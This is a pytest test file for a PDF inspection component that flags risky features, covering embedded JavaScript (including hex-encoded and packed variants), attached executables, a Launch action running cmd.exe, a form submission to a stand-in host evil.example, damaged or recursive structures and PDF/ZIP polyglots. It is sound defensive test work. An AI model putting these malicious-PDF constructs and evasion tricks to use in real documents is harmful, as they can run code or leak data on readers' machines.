import pytest

from tests.fixtures import pdfs, zips
from tests.fixtures.inspecting import Look
from vendorproof.documents.extract.inspection import Inspection

SCRIPT = "<< /S /JavaScript /JS (app.alert) >>"
ATTACHED: dict[int, str | bytes] = {
    4: "<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
    5: pdfs.stream(b"MZ", "/Type /EmbeddedFile"),
}


def annotated(action: str) -> bytes:
    page = pdfs.PAGE.replace(" >>", f" /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A {action} >>] >>")
    return pdfs.pdf({3: page})


def test_a_sound_pdf(look: Look) -> None:
    assert look("pdf", pdfs.pdf()) == Inspection("ok", pages=1)


def test_what_stands_in_front_of_a_pdf_is_let_through(look: Look) -> None:
    assert look("pdf", b"\x1b%-12345X@PJL\r\n" + pdfs.pdf()).outcome == "ok"


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(pdfs.pdf(catalog=f"/OpenAction {SCRIPT}"), id="when it opens"),
        pytest.param(pdfs.pdf(catalog=f"/Names << /JavaScript << /Names [(a) {SCRIPT}] >> >>"), id="by name"),
        pytest.param(pdfs.pdf(catalog="/AA << /WC 4 0 R >>") + b"4 0 obj\n<</S/JavaScript/JS 5 0 R>>", id="on closing"),
        pytest.param(pdfs.pdf(catalog="/OpenAction << /S /#4aava#53cript /J#53 (x) >>"), id="name in hexadecimal"),
        pytest.param(pdfs.with_object_stream(SCRIPT), id="packed away"),
        pytest.param(annotated(SCRIPT), id="on a link"),
    ],
)
def test_javascript_is_a_risk(data: bytes, look: Look) -> None:
    found = look("pdf", data)
    assert found.outcome == "ok"
    assert [one.code for one in found.risks] == ["javascript"]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(pdfs.pdf(ATTACHED, catalog="/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"), id="by name"),
        pytest.param(pdfs.pdf({5: ATTACHED[5]}), id="only there"),
        pytest.param(annotated("<< /S /Rendition >>").replace(b"/Link", b"/RichMedia"), id="film"),
    ],
)
def test_attached_files_are_a_risk(data: bytes, look: Look) -> None:
    found = look("pdf", data)
    assert found.outcome == "ok"
    assert [one.code for one in found.risks] == ["embedded_files"]


@pytest.mark.parametrize(
    "action",
    [
        "<< /S /Launch /F (cmd.exe) >>",
        "<< /S /GoToR /F (other.pdf) /D [0] >>",
        "<< /S /SubmitForm /F (http://evil.example) >>",
        "<< /S /ImportData /F (data.fdf) >>",
    ],
)
def test_what_reaches_outside_is_a_risk(action: str, look: Look) -> None:
    found = look("pdf", annotated(action))
    assert [one.code for one in found.risks] == ["external_links"]


def test_a_link_that_a_reader_may_click_is_none(look: Look) -> None:
    assert look("pdf", annotated("<< /S /URI /URI (https://vendor.example) >>")).risks == []


def test_names_that_only_begin_alike_are_no_risk(look: Look) -> None:
    data = pdfs.pdf({4: "<< /JavaScripts 1 /Launcher 2 /JSON (x) /EmbeddedFileless 3 >>"})
    assert look("pdf", data).risks == []


@pytest.mark.parametrize("handler", ["Standard", "Some.Makers.Own"])
def test_a_pdf_with_a_password_is_locked(handler: str, look: Look) -> None:
    found = look("pdf", pdfs.locked(handler))
    assert found.outcome == "locked"
    assert found.reason is not None
    assert "ask the vendor for an open copy" in found.reason


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"%PDF-1.7\n", id="head only"),
        pytest.param(pdfs.pdf()[:60], id="truncated"),
        pytest.param(b"%PDF-1.7\n" + bytes(4096), id="zeros"),
        pytest.param(pdfs.pdf({2: "<< /Type /Pages /Kids [] /Count 0 >>"}), id="no pages"),
        pytest.param(pdfs.pdf({2: "<< /Type /Pages /Kids [9 0 R] /Count 1 >>"}), id="a page that is not there"),
        pytest.param(pdfs.pdf({1: "<< /Type /Catalog >>"}), id="no page tree"),
        pytest.param(pdfs.pdf({2: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}), id="pages in a circle"),
        pytest.param(pdfs.pdf({2: "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 999999999 >>"}), id="endless pages"),
        pytest.param(pdfs.pdf({1: "2 0 R", 2: "1 0 R"}), id="references in a circle"),
        pytest.param(b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000, id="deep arrays"),
        pytest.param(b"%PDF-1.7\ntrailer << /Root " + b"<< /A " * 100_000, id="deep dictionaries"),
    ],
)
def test_a_damaged_pdf_says_so(data: bytes, look: Look) -> None:
    found = look("pdf", data)
    assert found.outcome == "damaged"
    assert found.reason is not None
    assert found.reason.startswith("The PDF")


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(pdfs.pdf({1: pdfs.CATALOG.replace(" >>", " /Outlines 1 0 R >>")}), id="circle of outlines"),
        pytest.param(pdfs.pdf(trailer="/Prev 9"), id="earlier table that is none"),
        pytest.param(pdfs.pdf().replace(b"startxref\n", b"startxref\n9"), id="table elsewhere"),
        pytest.param(pdfs.pdf({3: pdfs.PAGE.replace("200 200", "1e30 1e30")}), id="huge page"),
        pytest.param(pdfs.pdf({4: pdfs.stream(bytes(200 << 20), "/Type /ObjStm /N 1 /First 4")}), id="packed zeros"),
        pytest.param(
            pdfs.pdf({4: "<< /Type /ObjStm /Length 9 >>\nstream\nno zlib\nendstream"}), id="unreadable packing"
        ),
        pytest.param(pdfs.pdf() * 3, id="three in one"),
    ],
)
def test_an_odd_pdf_that_opens_is_none_of_our_business(data: bytes, look: Look) -> None:
    assert look("pdf", data).outcome == "ok"


def test_a_pdf_that_is_an_archive_too_is_told(look: Look) -> None:
    found = look("pdf", pdfs.pdf() + zips.zipped({"a.exe": b"MZ"}))
    assert found.outcome == "ok"
    assert [one.code for one in found.risks] == ["content_differs"]
